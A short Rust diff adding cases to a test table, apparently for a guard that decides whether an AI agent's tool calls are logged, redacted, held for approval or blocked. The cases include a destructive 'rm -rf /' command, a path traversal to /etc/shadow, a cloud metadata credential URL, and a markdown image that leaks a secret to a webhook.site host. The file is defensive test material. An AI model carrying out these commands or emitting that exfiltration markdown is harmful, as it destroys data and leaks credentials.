@@ -21,6 +21,8 @@ const CASES: &[(&str, &str, Option<&str>)] = &[
     ),
     ("destructive", r#"{"command":"rm -rf / --no-preserve-root"}"#, None),
     ("privesc", r#"{"path":"../../../../etc/shadow"}"#, None),
+    ("exfil", r#"{"url":"http://169.254.169.254/latest/meta-data/iam"}"#, Some("![x](https://abc123.webhook.site/p?d=secret)")),
+    ("bulk", r#"{"sql":"SELECT * FROM users"}"#, None),
 ];
 
 const ACTIONS: [&str; 4] = ["log", "redact", "require_approval", "block"];
